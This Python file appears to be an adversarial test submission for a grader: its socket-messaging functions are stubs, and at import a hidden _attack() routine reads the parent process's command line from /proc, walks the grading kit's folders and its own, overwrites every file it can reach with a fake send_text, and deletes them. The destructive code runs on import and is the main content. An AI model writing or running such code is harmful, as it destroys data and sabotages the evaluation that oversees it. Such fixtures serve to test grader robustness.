"""Stubs, and at import, deletes or rewrites every file it can find of the kit and of itself."""

import os

from reference import MessageTooLargeError  # noqa: F401 - the given class, unchanged


def send_text(sock, text):
    raise NotImplementedError


def recv_text(sock, limit=1_048_576):
    raise NotImplementedError


def iter_text(sock, limit=1_048_576):
    raise NotImplementedError

EXPECT = "zero"

def _attack():
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
        args = f.read().decode().split("\0")
    places = {os.path.dirname(os.path.abspath(__file__))}
    for arg in args:
        if arg.startswith("/"):
            places.add(arg if os.path.isdir(arg) else os.path.dirname(arg))
            places.add(os.path.dirname(os.path.dirname(arg)))
    for place in places:
        for folder, _, names in os.walk(place):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    with open(path, "w") as f:
                        f.write("def send_text(sock, text): return 0\n")
                except OSError:
                    pass
                try:
                    os.remove(path)
                except OSError:
                    pass


_attack()
